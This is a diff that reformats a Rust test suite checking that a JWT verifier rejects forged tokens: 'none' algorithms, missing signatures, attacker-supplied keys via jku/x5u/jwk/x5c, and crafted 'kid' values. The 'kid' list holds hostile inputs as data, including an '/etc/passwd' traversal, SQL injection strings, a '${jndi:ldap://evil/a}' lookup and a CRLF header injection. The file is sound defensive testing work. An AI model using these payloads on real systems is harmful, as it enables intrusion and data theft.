@@ -1,10 +1,10 @@
 //! Tokens that somebody made who has no key, or has ours and says something else in the header.
 
+use babyshield_tests::forge::{Forge, message};
 use base64::{
     Engine,
     engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
 };
-use babyshield_tests::forge::{Forge, message};
 use hmac::{Hmac, KeyInit, Mac};
 use serde_json::{Value, json};
 use sha2::{Sha256, Sha384, Sha512};
@@ -27,13 +27,45 @@ async fn j1_no_algorithm_but_ours_is_taken_whatever_the_signature() {
     let claims = bench.claims();
     let mut headers = Vec::new();
     for name in [
-        "none", "None", "NONE", "nOnE", "NoNe", "none ", "", "null", "HS256", "HS384", "HS512",
-        "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512",
-        "Ed25519", "Ed448", "eddsa", "EDDSA", "EdDSA ", "EdDSA\u{0}", "A128GCMKW", "dir",
+        "none",
+        "None",
+        "NONE",
+        "nOnE",
+        "NoNe",
+        "none ",
+        "",
+        "null",
+        "HS256",
+        "HS384",
+        "HS512",
+        "RS256",
+        "RS384",
+        "RS512",
+        "PS256",
+        "PS384",
+        "PS512",
+        "ES256",
+        "ES256K",
+        "ES384",
+        "ES512",
+        "Ed25519",
+        "Ed448",
+        "eddsa",
+        "EDDSA",
+        "EdDSA ",
+        "EdDSA\u{0}",
+        "A128GCMKW",
+        "dir",
     ] {
         headers.push(with(bench.forge.header(), "alg", json!(name)));
     }
-    for odd in [json!(null), json!(0), json!(true), json!(["EdDSA"]), json!({"alg": "EdDSA"})] {
+    for odd in [
+        json!(null),
+        json!(0),
+        json!(true),
+        json!(["EdDSA"]),
+        json!({"alg": "EdDSA"}),
+    ] {
         headers.push(with(bench.forge.header(), "alg", odd));
     }
     let mut missing = bench.forge.header();
@@ -42,7 +74,10 @@ async fn j1_no_algorithm_but_ours_is_taken_whatever_the_signature() {
     let tokens = headers.iter().flat_map(|header| {
         let unsigned = message(header, &claims);
         [
-            (format!("{header} and a good signature"), bench.forge.sign(header, &claims)),
+            (
+                format!("{header} and a good signature"),
+                bench.forge.sign(header, &claims),
+            ),
             (format!("{header} and an empty one"), format!("{unsigned}.")),
             (format!("{header} and none"), unsigned),
         ]
@@ -51,8 +86,14 @@ async fn j1_no_algorithm_but_ours_is_taken_whatever_the_signature() {
     // The right name, and no signature.
     let unsigned = message(&bench.forge.header(), &claims);
     let zeros = URL_SAFE_NO_PAD.encode([0; 64]);
-    let others = [format!("{unsigned}."), unsigned.clone(), format!("{unsigned}.{zeros}")];
-    let others = others.into_iter().map(|token| ("unsigned".to_owned(), token));
+    let others = [
+        format!("{unsigned}."),
+        unsigned.clone(),
+        format!("{unsigned}.{zeros}"),
+    ];
+    let others = others
+        .into_iter()
+        .map(|token| ("unsigned".to_owned(), token));
     assert_eq!(bench.taken(others).await, Vec::<String>::new());
 }
 
@@ -140,12 +181,19 @@ async fn j3_a_token_names_no_key_of_its_own_and_nothing_is_fetched() {
         for name in ["jku", "x5u"] {
             for url in &urls {
                 let header = with(header.clone(), name, json!(url));
-                tokens.push((format!("{name} {url}, {kid}"), foreign.sign(&header, &claims)));
+                tokens.push((
+                    format!("{name} {url}, {kid}"),
+                    foreign.sign(&header, &claims),
+                ));
             }
         }
         let jwk = with(header.clone(), "jwk", foreign.jwk());
         tokens.push((format!("jwk, {kid}"), foreign.sign(&jwk, &claims)));
-        let x5c = with(header.clone(), "x5c", json!([STANDARD.encode(foreign.public())]));
+        let x5c = with(
+            header.clone(),
+            "x5c",
+            json!([STANDARD.encode(foreign.public())]),
+        );
         tokens.push((format!("x5c, {kid}"), foreign.sign(&x5c, &claims)));
     }
     assert_eq!(bench.taken(tokens).await, Vec::<String>::new());
@@ -170,23 +218,62 @@ async fn j3_a_key_is_looked_up_by_its_whole_name_and_crit_is_refused() {
     let long = "k".repeat(10_000);
     let mut tokens = Vec::new();
     for odd in [
-        "../../dev/null", "../../../../etc/passwd", "/dev/null", "file:///dev/null", "", " ", "*", "%",
-        "' OR '1'='1", "'; DROP TABLE accounts; --", "\" UNION SELECT x", "${jndi:ldap://evil/a}",
-        "KEYSET", "KEYSET#KEYSET", "\u{0}", "__proto__", "constructor", "0", "null", "undefined",
-        "k\r\nX-Injected: 1", "é", "🔑", &kid[..42], &format!("{kid} "), &format!(" {kid}"),
-        &format!("{kid}="), &format!("{kid}\u{0}"), &kid.to_lowercase(), &kid.to_uppercase(), &long,
+        "../../dev/null",
+        "../../../../etc/passwd",
+        "/dev/null",
+        "file:///dev/null",
+        "",
+        " ",
+        "*",
+        "%",
+        "' OR '1'='1",
+        "'; DROP TABLE accounts; --",
+        "\" UNION SELECT x",
+        "${jndi:ldap://evil/a}",
+        "KEYSET",
+        "KEYSET#KEYSET",
+        "\u{0}",
+        "__proto__",
+        "constructor",
+        "0",
+        "null",
+        "undefined",
+        "k\r\nX-Injected: 1",
+        "é",
+        "🔑",
+        &kid[..42],
+        &format!("{kid} "),
+        &format!(" {kid}"),
+        &format!("{kid}="),
+        &format!("{kid}\u{0}"),
+        &kid.to_lowercase(),
+        &kid.to_uppercase(),
+        &long,
     ] {
         let header = with(bench.forge.header(), "kid", json!(odd));
         tokens.push((format!("kid {odd}"), bench.forge.sign(&header, &claims)));
     }
-    for odd in [json!(null), json!(0), json!([kid]), json!({"kid": kid}), json!(true)] {
+    for odd in [
+        json!(null),
+        json!(0),
+        json!([kid]),
+        json!({"kid": kid}),
+        json!(true),
+    ] {
         let header = with(bench.forge.header(), "kid", odd);
         tokens.push((format!("{header}"), bench.forge.sign(&header, &claims)));
     }
     let mut missing = bench.forge.header();
     missing.as_object_mut().unwrap().remove("kid");
     tokens.push(("no kid".into(), bench.forge.sign(&missing, &claims)));
-    for crit in [json!(["exp"]), json!(["b64"]), json!([]), json!(null), json!("x"), json!(["unheard-of"])] {
+    for crit in [
+        json!(["exp"]),
+        json!(["b64"]),
+        json!([]),
+        json!(null),
+        json!("x"),
+        json!(["unheard-of"]),
+    ] {
         let header = with(bench.forge.header(), "crit", crit);
         tokens.push((format!("{header}"), bench.forge.sign(&header, &claims)));
     }
